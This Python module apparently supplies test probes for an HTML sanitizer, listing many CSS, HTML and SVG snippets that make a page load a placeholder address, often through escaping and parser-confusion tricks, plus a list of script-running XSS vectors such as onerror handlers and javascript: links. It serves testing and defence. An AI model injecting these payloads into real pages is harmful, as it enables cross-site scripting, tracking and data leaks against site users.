"""Ways for a page to load something. {u} stands for an address that listens; what follows each shows what the way needs."""
# ruff: noqa: E501

USED = "<div class=t>text</div><ul><li class=t>a</li></ul>"
ICON = "data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw=="


def sheet(css: str) -> str:
    return f"<style>{css}</style>{USED}"


def drawn(inside: str) -> str:
    return f"<p>drawing<svg xmlns:xlink=http://www.w3.org/1999/xlink width=90 height=90>{inside}</svg>"


def styled(style: str) -> str:
    return f"<div style='{style}'>text</div>"


RECT = "width=80 height=80"
SHEETS = (
    "@import url({u});", "@import '{u}';", '@IMPORT "{u}" screen;', "@\\69mport '{u}';", "@import/**/'{u}';",
    ".t{{a:b}}@import '{u}';", "@charset 'utf-8';@import '{u}';", "@layer a;@import url({u}) layer(a);",
    "@namespace '{u}';.t{{color:red}}", ".t{{background:url({u})}}", ".t{{background:URL( '{u}' )}}",
    ".t{{background:u\\72l({u})}}", ".t{{background:\\75rl({u})}}", ".t{{background:\\000075 rl('{u}')}}",
    ".t{{background:\\url({u})}}", ".t{{background:\\55\\52\\4c({u})}}", ".t{{background:/**/url(/**/{u})}}",
    ".t{{background:url(\n'{u}'\n)}}", ".t{{background:url('{u}}}", ".t{{background:url({u}}}",
    ".t{{color:red;background-image:url({u});color:blue}}", ".t{{background:url({icon}),url({u})}}",
    ".t{{background:image-set('{u}' 1x)}}", ".t{{background:-webkit-image-set(url({u}) 1x)}}",
    ".t{{background:image-set(\"{u}\" 1x type('image/png'))}}", ".t{{background:src('{u}')}}",
    ".t{{background:-webkit-cross-fade(url({u}),url({icon}),50%)}}", ".t{{background:cross-fade(url({u}) 50%,red)}}",
    ".t{{background:image('{u}')}}", ".t{{list-style:url({u})}}", ".t{{display:list-item;list-style-image:url({u})}}",
    ".t{{border:9px solid;border-image:url({u}) 1}}", ".t{{border-image-source:url({u});border:1px solid}}",
    ".t{{cursor:url({u}),auto}}", ".t{{content:url({u})}}", ".t::before{{content:'a' url({u})}}",
    ".t::after{{content:url('{u}')}}", ".t{{mask:url({u})}}", ".t{{-webkit-mask-image:url({u})}}",
    ".t{{mask-border:url({u}) 1}}", ".t{{-webkit-mask-box-image:url({u}) 1}}", ".t{{filter:url({u}#f)}}",
    ".t{{backdrop-filter:url({u}#f)}}", ".t{{clip-path:url({u}#f)}}", ".t{{shape-outside:url({u});float:left}}",
    ".t{{--a:url({u});background:var(--a)}}", ".t{{--a:'{u}';background:image-set(var(--a) 1x)}}",
    ".t{{background:var(--b,url({u}))}}", "@property --p{{syntax:'*';inherits:false;initial-value:url({u})}}.t{{background:var(--p)}}",
    "@property --p{{syntax:'<image>';inherits:false;initial-value:url({u})}}.t{{background:var(--p)}}",
    "@font-face{{font-family:f;src:url({u})}}.t{{font-family:f}}", "@font-face{{font-family:f;src:local(no),url('{u}')}}.t{{font-family:f}}",
    "@font-face{{font-family:f;src:url({u})format('woff2')}}.t{{font:9px f}}",
    "@media all{{.t{{background:url({u})}}}}", "@supports(display:block){{.t{{background:url({u})}}}}",
    "@layer a{{.t{{background:url({u})}}}}", ".a,div{{&.t{{background:url({u})}}}}", "@scope(body){{.t{{background:url({u})}}}}",
    "@container(width>0){{.t{{background:url({u})}}}}body{{container-type:inline-size}}.t{{background:url({u})}}",
    "@keyframes k{{0%,to{{background-image:url({u})}}}}.t{{animation:k 9s}}", "@starting-style{{.t{{background:url({u})}}}}",
    "@counter-style c{{system:cyclic;symbols:url({u})}}.t{{list-style:c}}",
    "@function --f(){{result:url({u})}}.t{{background:--f()}}", ".t{{background:if(style(--x):red;else:url({u}))}}",
    ".t{{a:\"\n;background:url({u})}}", ".t{{a:'\\';background:url({u})}}", ".t{{a:';b:url({u})';background:url({u})}}",
    ".t{{a:/*;*/b;/*'*/background:url({u})/*'*/}}", ".t{{a:#url(\";background:url({u})}}", ".t{{a:(;background:url({u})}}",
    ".t{{a:1url(';background:url({u});')}}", ".t{{a:b]};background:url({u})}}", "}}.t{{background:url({u})}}",
    ".t{{a:url(x'y;)'};background:url({u});z:'}}", "<!--.t{{background:url({u})}}-->", ".\\{{ a,.t{{background:url({u})}}",
    ".t\0{{a:b}}.t{{background:u\0rl({u})}}", "\ufeff.t{{background:url({u})}}", ".t{{background:url(\\{u})}}",
    "@page{{@top-left{{content:url({u})}}}}.t{{background:url({u})}}", ".t{{background:url({u} scheme(x))}}",
    "@view-transition{{navigation:auto}}.t{{background:URL({u})}}", "@document url({u}){{.t{{background:url({u})}}}}",
    ".t{{behavior:url({u});-moz-binding:url({u}#x)}}", ".t{{background:paint(x),url({u})}}",
    ".t{{background:attr(data-x type(<url>),url({u}))}}", "div{{background:attr(data-u type(*))}}", ".t{{background:url(d\tata:image/gif,{u})}}",
    ".t{{content:url( {u} ) / 'alt'}}", ".t{{offset-path:url({u}#p)}}", ".t{{text-box:url({u});mask:linear-gradient(#000,#000),url({u})}}",
)  # fmt: skip
ATTRIBUTES = (
    *(styled(style) for style in (
        "background:url({u})", "background:u\\72l({u})", "background:&#117;rl({u})", "background:u&#92;72l({u})",
        "background:url&lpar;{u}&rpar;", "background:image-set(\"{u}\" 1x)", "content:url({u})", "cursor:url({u}),auto",
        "color:red;background:url({u});", "/*;*/background:url({u})", "--a:url({u});background:var(--a)",
        "background:ur\0l({u})", "BACKGROUND:URL({u})", "background:url(&quot;{u}&quot;)", "a:&quot;;background:url({u})",
        "background:&#x75;&#x72;&#x6c;&#x28;{u})", "background:url(&apos;{u}&apos;", "}}div{{background:url({u})",
    )),
    "<div style=background:url({u})>", "<div STYLE=background:url({u})>", "<div style='' style=background:url({u})>a</div>",
    "<div data-u='url({u})' style='background:attr(data-u type(*))'>a</div>", "<img src={u}>", "<img SRC='{u}'>", "<img/src={u}>",
    "<image src={u}>", "<img srcset='{u} 2x'>", "<img srcset='{icon} 1x, {u} 2x' style=width:9px>", "<img srcset='data:image/gif,a, {u} 9x'>",
    "<picture><source srcset={u}><img></picture>", "<img src='&#x2f;&#x2f;{bare}'>", "<img src=' {u}'>", "<img lowsrc={u} dynsrc={u}>",
    "<input type=image src={u}>", "<video poster={u}></video>", "<video src={u} preload=auto></video>", "<audio src={u} preload=auto></audio>",
    "<video preload=auto><source src={u}></video>", "<video src=data:video/mp4,><track default kind=captions src={u}></video>",
    "<body background={u}>a", "<table background={u}><tr><td>a</table>", "<table><tr><td background={u}>a</table>", "<html manifest={u}>a",
    "<p>a<link rel=stylesheet href={u}>", "<link rel=icon href={u}><p>a", "<link rel=preload as=image href={u}>", "<link rel=prefetch href={u}>",
    "<p>a<iframe src={u}></iframe>", "<object data={u}></object>", "<embed src={u}>", "<frameset><frame src={u}></frameset>",
    "<p>a<iframe srcdoc='<img src={u}>'></iframe>", "<applet code={u} archive={u}></applet>", "<portal src={u}></portal>",
    "<meta http-equiv=refresh content='0;url={u}'>", "<base href={u}><img src=x>", "<script src={u}></script>", "<svg><script href={u}></script></svg>",
    "<p>a<a href=x ping={u}>b</a>", "<img attributionsrc={u}>", "<div><template shadowrootmode=open><img src={u}></template></div>",
    "<div><template shadowrootmode=open><style>:host{{background:url({u})}}</style>a</template></div>",
    "<noscript><img src={u}></noscript>", "<bgsound src={u}>", "<marquee src={u}>a</marquee>", "<isindex action={u}>", "<xml src={u}></xml>",
    "<?xml-stylesheet href='{u}'?><p>a", "<select><option style='background:url({u})'>a</select>", "<form><button formaction={u} autofocus>a</button></form>",
    "<math><mi xlink:href={u} href={u}>a</mi></math>", "<math><annotation-xml encoding=text/html><img src={u}></annotation-xml></math>",
    "<style media='all'>.t{{background:url({u})}}</style><div class=t>", "<xmp><img src={u}></xmp>", "<textarea></textarea><img src={u}>",
    "<img src=data:image/gif,a onerror='new Image().src=\"{u}\"'>", "<p onclick=x style=\"background:url('{u}')\">a", "<title><img src={u}></title>",
    "<svg><style>.t{{background:url({u})}}</style></svg><div class=t>a", "<svg><style>.t{{background:u&#114;l({u})}}</style></svg><div class=t>a",
    "<svg><style>.t{{background:&#117;&#114;&#108;({u})}}</style></svg><div class=t>a", "<svg><style>&#64;import '{u}';.t{{a:b}}</style></svg><div class=t>a",
    "<svg><style>.t{{a:b}}&commat;import '{u}';</style></svg>a", "<svg><style>.t{{background:url&lpar;{u}&rpar;}}</style></svg><div class=t>a",
    "<svg><style><![CDATA[.t{{background:url({u})}}]]></style></svg><div class=t>a", "<math><style>.t{{background:u&#114;l({u})}}</style></math><div class=t>a",
    *(drawn(inside) for inside in (
        "<image href={u} width=9 height=9 />", "<image xlink:href={u} width=9 height=9 />", "<use href={u}#a />", "<use xlink:href={u}#a />",
        "<filter id=f><feImage href={u} /></filter><rect RECT filter=url(#f) />", "<filter id=f><feImage xlink:href={u} /></filter><rect RECT filter=url(#f) />",
        "<rect RECT fill=url({u}#a) />", "<rect RECT fill=\"url('{u}#a') red\" />", "<rect RECT stroke=url({u}#a) />", "<rect RECT filter=url({u}#a) />",
        "<rect RECT mask=url({u}#a) />", "<rect RECT clip-path=url({u}#a) />", "<rect RECT cursor=url({u}),auto />", "<path d=M0,0L9,9L20,0 marker-mid=url({u}#a) />",
        "<path d=M0,0L9,9 marker-start=url({u}#a) marker-end=url({u}#a) />", "<rect RECT style=fill:url({u}#a) />", "<rect RECT fill=u\\72l({u}#a) />",
        "<rect RECT fill='&#117;rl({u}#a)' />", "<rect RECT mask-image=url({u}) />", "<g filter=url({u}#a)><rect RECT /></g>", "<text font-family=x filter=URL({u}#a)>a</text>",
        "<image width=9 height=9><set attributeName=href to={u} /></image>", "<image href={icon} width=9 height=9><animate attributeName=href values='{u};{u}' dur=1s /></image>",
        "<image width=9 height=9><animate attributeName=xlink:href from={u} to={u} dur=1s /></image>", "<use><set attributeName=href to={u}#a /></use>",
        "<rect RECT><set attributeName=fill to='url({u}#a)' /></rect>", "<rect RECT><set attributeName=filter to='url({u}#a)' /></rect>",
        "<rect RECT><animate attributeName=mask values='url({u}#a);none' dur=9s /></rect>", "<rect RECT><animate attributeName=fill by='url({u}#a)' dur=9s /></rect>",
        "<image width=9 height=9><set attributeName='&#104;ref' to={u} /></image>", "<linearGradient id=g href={u}#a /><rect RECT fill=url(#g) />",
        "<pattern id=g href={u}#a RECT /><rect RECT fill=url(#g) />", "<text><textPath href={u}#a>abc</textPath></text>", "<script href={u}></script>",
        "<foreignObject RECT><img src={u}></foreignObject>", "<mpath href={u}#a /><animateMotion><mpath href={u}#a /></animateMotion>", "<cursor xlink:href={u} id=c /><rect RECT cursor=url(#c) />",
        "<font-face><font-face-src><font-face-uri href={u} /></font-face-src></font-face>", "<color-profile xlink:href={u} />", "<tref xlink:href={u}#a />",
        "<a href=x><image href={u} width=9 height=9 /></a>", "<g xml:base={u}><image href=x width=9 height=9 /></g>", "<desc><img src={u}></desc>", "<title><img src={u}></title>",
        "<image HREF={u} width=9 height=9 />", "<image href='{icon}' xlink:href={u} width=9 height=9 />", "<filter href={u}#a id=f /><rect RECT filter=url(#f) />",
    )),
)  # fmt: skip
RUNNING = (
    "<p>a<script>ran()</script>", "<img src=x onerror=ran()>", "<svg onload=ran()>", "<body onload=ran()>a", "<details open ontoggle=ran()>a",
    "<input autofocus onfocus=ran()>", "<style onload=ran()>a{b:c}</style>", "<a id=c href=javascript:ran()>a</a>", "<a id=c href='java\nscript:ran()'>a</a>",
    "<a id=c href=' &#1;javascript:ran()'>a</a>", "<a id=c href=java&Tab;script&colon;ran()>a</a>", "<form action=javascript:ran()><button id=c>a</button></form>",
    "<form><button id=c formaction=javascript:ran()>a</button></form>", "<svg><a id=c xlink:href=javascript:ran()><text y=9>a</text></a></svg>",
    "<svg><a id=c><animate attributeName=href values=javascript:ran() /><text y=9>a</text></a></svg>",
    "<svg><a id=c><set attributeName=href to=javascript:ran() /><text y=9>a</text></a></svg>",
    "<svg><a id=c href=x><animate attributeName=href values='#;javascript:ran()' dur=1ms fill=freeze /><text y=9>a</text></a></svg>",
    "<svg><a id=c><set attributeName=xlink:href to='&#106;avascript:ran()' /><text y=9>a</text></a></svg>",
    "<svg><a id=c><animate attributeName=href from=javascript:ran() to=javascript:ran() /><text y=9>a</text></a></svg>",
    "<math><mi id=c href=javascript:ran()>a</mi></math>", "<iframe src=javascript:parent.ran()></iframe>", "<object data=javascript:ran()></object>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s />", "<marquee onstart=ran()>a</marquee>", "<video><source onerror=ran()></video>",
    "<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>", "<svg><style><img src=x onerror=ran()></style></svg>",
    "<svg><title><img src=x onerror=ran()></title></svg>", "<noscript><p title='</noscript><img src=x onerror=ran()>'>", "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
)  # fmt: skip
PROBES = tuple(probe.replace("RECT", RECT) for probe in (*(sheet(css) for css in SHEETS), *ATTRIBUTES))


def probe(number: int, address: str) -> str:
    """The page of a way, which loads an address."""
    spelled = PROBES[number].replace("{{", "{").replace("}}", "}")
    bare = address.removeprefix("http://")
    return spelled.replace("{u}", address).replace("{bare}", bare).replace("{icon}", ICON)
